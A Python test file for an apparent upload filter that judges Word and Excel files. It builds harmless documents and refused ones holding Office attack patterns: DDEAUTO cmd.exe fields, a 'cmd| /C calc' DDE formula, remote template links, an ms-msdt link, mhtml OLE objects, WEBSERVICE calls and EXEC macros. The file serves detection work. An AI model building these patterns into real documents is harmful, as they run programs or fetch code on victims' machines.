"""Word and Excel files that run something, carry objects or lead elsewhere; and those that only look so."""

import io
from pathlib import Path

import pytest
from openpyxl import Workbook
from openpyxl.chart import BarChart, Reference

from bot.judging.judge import judge
from bot.judging.refused import Refused
from tests.made import EXCEL, WORD, office, old_office, related

DOCUMENT = '<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">{}</w:document>'
BEGIN, MIDDLE, END = (f'<w:r><w:fldChar w:fldCharType="{mark}"/></w:r>' for mark in ("begin", "separate", "end"))


def told(*words: str) -> str:
    return "".join(f"<w:r><w:instrText>{word}</w:instrText></w:r>" for word in words)


def letter(inside: str = "", **parts: bytes) -> bytes:
    """A Word file; further parts by their name with dots for slashes."""
    named = {name.replace("__", "/"): content for name, content in parts.items()}
    return office(parts={"word/document.xml": DOCUMENT.format(inside).encode()} | named)


def tied(
    kind: str, target: str, outside: bool = True, main: str = WORD, place: str = "word/_rels/document.xml.rels"
) -> bytes:
    return office(main, {place: related(kind, target, outside)})


def sheet(formula: str = "", **parts: bytes) -> bytes:
    cells = f"<worksheet><sheetData><row><c><f>{formula}</f></c></row></sheetData></worksheet>"
    named = {name.replace("__", "/"): content for name, content in parts.items()}
    return office(EXCEL, {"xl/worksheets/sheet1.xml": cells.encode()} | named)


def workbook() -> bytes:
    """As openpyxl writes it: a formula, a link, a chart."""
    book, made = Workbook(), io.BytesIO()
    page = book.worksheets[0]
    page.append(["Kajen", 3, "=SUM(B1:B2)", "='Rapat|Bulan'!A1", '=HYPERLINK("https://contoh.go.id","a|b")'])
    page["A1"].hyperlink = "https://contoh.go.id"
    chart = BarChart()
    chart.add_data(Reference(page, min_col=2, min_row=1, max_row=2))
    page.add_chart(chart)
    book.save(made)
    return made.getvalue()


PAGE_NUMBER = BEGIN + told(" PA", "GE ") + MIDDLE + "<w:r><w:t>1</w:t></w:r>" + END
NESTED = BEGIN + told(" IF ") + PAGE_NUMBER + told(' = 1 "LINK" ') + END
WELCOME = {
    "a letter with page numbers": letter(PAGE_NUMBER + NESTED),
    "a letter with a link": tied("hyperlink", "https://contoh.go.id"),
    "a letter with a link to the author's own disk": tied("hyperlink", r"file:///C:\Users\siti\surat.docx"),
    "a letter with a picture": tied("image", "media/image1.png", outside=False),
    "a letter of a template of its own machine": letter(word__settings=b"<w:settings/>"),
    "a letter in UTF-16": office(parts={"word/document.xml": DOCUMENT.format("DDE").encode("utf-16")}),
    "a letter that writes of DDEAUTO": letter("<w:r><w:t>DDEAUTO cmd.exe | LINK</w:t></w:r>"),
    "a sheet of openpyxl": workbook(),
    "a sheet with a bar in quotes": sheet("\"a|b\"&amp;'c|d'!A1"),
    "an old letter about DDE": old_office("WordDocument") + b"\r DDE dan DDEAUTO \r",
    "an old letter with a link": old_office("WordDocument") + "http://contoh.go.id/a.doc".encode("utf-16-le"),
}
REFUSED = {
    "a letter with a template elsewhere": (
        tied("attachedTemplate", "https://x.example/a.dotm", place="word/_rels/settings.xml.rels"),
        "elsewhere",
    ),
    "a letter with a template on a share": (tied("attachedTemplate", r"\\10.0.0.1\a.dotm"), "elsewhere"),
    "a letter with a picture elsewhere": (tied("image", "https://x.example/a.png"), "elsewhere"),
    "a letter with a frame elsewhere": (tied("frame", "https://x.example/a"), "elsewhere"),
    "a letter with a link to a share": (tied("hyperlink", r"\\10.0.0.1\a"), "elsewhere"),
    "a letter with a link that starts a program": (tied("hyperlink", "ms-msdt:/id PCWDiagnostic"), "elsewhere"),
    "a letter with an object elsewhere": (tied("oleObject", "mhtml:https://x.example/a!x"), "carries"),
    "a letter with an object": (tied("oleObject", "embeddings/oleObject1.bin", outside=False), "carries"),
    "a letter with an object by another name": (
        letter(word__media__image1=b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"),
        "carries",
    ),
    "a letter with a control": (tied("control", "activeX/activeX1.xml", outside=False), "carries"),
    "a letter with a page in it": (tied("aFChunk", "a.html", outside=False), "carries"),
    "a letter with ties by another name": (letter(word__rels=related("image", "https://x.example/a")), "elsewhere"),
    "a letter with ties in UTF-16": (
        office(
            parts={
                "word/_rels/a.rels": related("image", "https://x.example")
                .decode()
                .replace("UTF-8", "UTF-16")
                .encode("utf-16")
            }
        ),
        "elsewhere",
    ),
    "a letter that starts a program": (letter(BEGIN + told(' DDEAUTO c:\\\\windows\\\\cmd.exe "/k"') + END), "active"),
    "a letter that starts one in pieces": (letter(BEGIN + told("D", "D", "E", "AUTO cmd") + MIDDLE + END), "active"),
    "a letter that starts one in one line": (letter('<w:fldSimple w:instr=" dde cmd a b"/>'), "active"),
    "a letter that hides what it starts": (
        letter(BEGIN + BEGIN + told("QUOTE 68 68 69") + END + told(" cmd") + END),
        "active",
    ),
    "a letter that draws in another": (letter(BEGIN + told("INCLUDETEXT a.docx") + END), "active"),
    "a letter with words of its own": (
        office(parts={"word/document.xml": b'<!DOCTYPE a [<!ENTITY d "DDE">]><a>&d;</a>'}),
        "broken",
    ),
    "a letter that is torn inside": (office(parts={"word/document.xml": b"<w:document><w:p>"}), "broken"),
    "a letter with a sheet with an object": (
        office(parts={"word/embeddings/a.xlsx": tied("oleObject", "a.bin", False, EXCEL)}),
        "carries",
    ),
    "a sheet that asks another": (
        tied("externalLink", "externalLinks/a.xml", False, EXCEL, "xl/_rels/workbook.xml.rels"),
        "elsewhere",
    ),
    "a sheet that asks a server": (
        tied("connections", "connections.xml", False, EXCEL, "xl/_rels/workbook.xml.rels"),
        "elsewhere",
    ),
    "a sheet with an object": (tied("oleObject", "../embeddings/a.bin", False, EXCEL), "carries"),
    "a sheet that asks a program": (
        sheet(xl__externalLinks__a=b'<externalLink><ddeLink ddeService="cmd"/></externalLink>'),
        "active",
    ),
    "a sheet that starts a program": (sheet("cmd|' /C calc'!A0"), "active"),
    "a sheet that calls the web": (sheet('WEBSERVICE("https://x.example/"&amp;A1)'), "active"),
    "a sheet with a name that runs": (
        sheet(xl__workbook=b'<workbook><definedName name="a">EXEC("calc")</definedName></workbook>'),
        "active",
    ),
    "a sheet with macros of 1992": (office(EXCEL, {"xl/macrosheets/sheet1.xml": b"<a/>"}), "macro"),
    "a sheet with such macros elsewhere": (tied("xlMacrosheet", "a.xml", False, EXCEL), "macro"),
    "slides with an object": (
        tied(
            "oleObject",
            "a.bin",
            False,
            "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
        ),
        "type",
    ),
    "an old letter with a packed file": (old_office("WordDocument", "\1Ole10Native"), "carries"),
    "an old letter with an object": (old_office("WordDocument", "ObjectPool", "\3ObjInfo"), "carries"),
    "an old letter with a formula that is a program": (old_office("WordDocument", "Equation Native"), "carries"),
    "an old letter that starts a program": (old_office("WordDocument") + b"\x13 DDEAUTO cmd \x14\x15", "active"),
    "an old letter that starts one in wide letters": (
        old_office("WordDocument") + "\x13DDE cmd".encode("utf-16-le"),
        "active",
    ),
    "an old letter with a template elsewhere": (
        old_office("WordDocument") + r"\\10.0.0.1\a\mal.dotm".encode("utf-16-le"),
        "elsewhere",
    ),
    "an old sheet with an object": (old_office("Workbook", "MBD0012ABCD"), "carries"),
    "an old sheet with macros of 1992": (
        old_office("Workbook") + b"\x85\0\x0e\0\x10\0\0\0\0\1\6\0Makro1",
        "macro",
    ),
}


@pytest.mark.parametrize("case", WELCOME)
def test_a_document_that_is_only_a_document_is_welcome(tmp_path: Path, case: str) -> None:
    assert judge(kept(tmp_path, WELCOME[case])).startswith("application/")


@pytest.mark.parametrize("case", REFUSED)
def test_a_document_that_does_something_is_refused(tmp_path: Path, case: str) -> None:
    content, expected = REFUSED[case]
    with pytest.raises(Refused) as refused:
        judge(kept(tmp_path, content))
    assert refused.value.reason == expected


def kept(folder: Path, content: bytes) -> Path:
    path = folder / "file"
    path.write_bytes(content)
    return path
